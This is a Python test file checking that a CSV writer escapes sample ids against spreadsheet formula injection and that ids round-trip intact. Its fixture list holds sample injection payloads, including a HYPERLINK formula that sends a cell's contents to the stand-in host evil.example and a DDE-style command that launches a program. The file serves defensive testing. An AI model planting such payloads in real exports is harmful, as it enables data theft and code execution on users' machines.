"""Ids in csv files: no program takes them for formulas, and they come back as they were."""

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from daskfc.runs import site_labels
from daskfc.runs.outcome.csv_cells import csv_text, words_of
from daskfc.stores import ClientStore, write_store
from tests.runs.test_labels import CLIENTS, N, made

LINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
FORMULAS = [LINK, "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1"]
PLAIN = ["p7", "-1.5", "-2e-3", "a=b", "", "é", "'p7", "NA"]


def cells_of(text, delimiter=","):
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)][1:]


@pytest.mark.parametrize("word", FORMULAS)
def test_a_formula_begins_no_cell(word):
    (cell,) = cells_of(csv_text(pd.DataFrame({"sample_id": [word], "cluster": [0]})))
    assert cell == f"'{word}"


@pytest.mark.parametrize("word", ["a;=1+1", "a\t=1+1"])
def test_nor_where_a_program_takes_another_end_of_a_cell(word):
    text = csv_text(pd.DataFrame({"sample_id": [word], "cluster": [0]}))
    assert text.splitlines()[1] == f'"{word}",0'


def test_other_words_and_numbers_stay_as_they_are():
    table = pd.DataFrame({"sample_id": PLAIN, "cluster": range(-1, 7)})
    assert csv_text(table) == table.to_csv(index=False)


@given(st.lists(st.text("=+-@'\t\r\n1;,\"a. ", max_size=6) | st.text(max_size=5), min_size=1))
def test_words_come_back(words):
    words = [word.replace("\0", "") for word in words]  # which csv has no way to write
    text = csv_text(pd.DataFrame({"sample_id": words, "cluster": 1}))
    read = pd.read_csv(
        io.StringIO(text, newline=""), dtype={"sample_id": str}, keep_default_na=False
    )
    assert words_of(read["sample_id"]).tolist() == words
    assert all(not cell or cell[0] not in "=+@\t\r\n" for cell in cells_of(text))


def test_labels_with_clear_ids_go_back_to_their_store(tmp_path):
    urls = {name: str(tmp_path / f"{name}.zarr") for name in CLIENTS}
    for name, url in urls.items():
        ids = [f"={name}{i}" for i in range(N - 1)] + [f"-1{name}"]
        write_store(url, name, [[float(i)] for i in range(N)], ids)
    found, labels = made(tmp_path, urls, None, clear=True)
    told = (found.folder / "labels.csv").read_text()
    assert "\n=" not in told
    assert "'=a0,a," in told
    table = site_labels(found.folder / "labels.csv", urls["b"])
    assert table["sample_id"].tolist() == ClientStore.open(urls["b"]).sample_ids().tolist()
    assert table.iloc[:, -1].tolist() == labels[-1][N : 2 * N].tolist()
